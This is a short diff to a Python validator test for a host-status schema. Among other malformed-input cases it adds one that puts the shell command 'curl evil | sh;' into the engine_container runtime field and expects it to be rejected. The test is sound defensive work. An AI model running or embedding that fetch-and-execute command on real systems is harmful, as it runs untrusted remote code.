@@ -78,6 +78,10 @@ def test_what_is_not_declared_does_not(extra: dict[str, Any]) -> None:
         ({"engine_container": {"uptime": float("nan")}}, "slb_host.engine_container.uptime"),
         ({"engine_container": {"restart_count": 10**30}}, "slb_host.engine_container.restart_count"),
         ({"engine_container": {"state": ["running"]}}, "slb_host.engine_container.state is not text"),
+        (
+            {"engine_container": {"runtime": "curl evil | sh;"}},
+            "slb_host.engine_container.runtime is not one of docker",
+        ),
         ({"engine_container": {"why": "x" * 100_000}}, "slb_host.engine_container.why"),
         ({"engine_container": "running"}, "slb_host.engine_container is not a mapping"),
         ({"root": "yes"}, "slb_host.root is not true or false"),
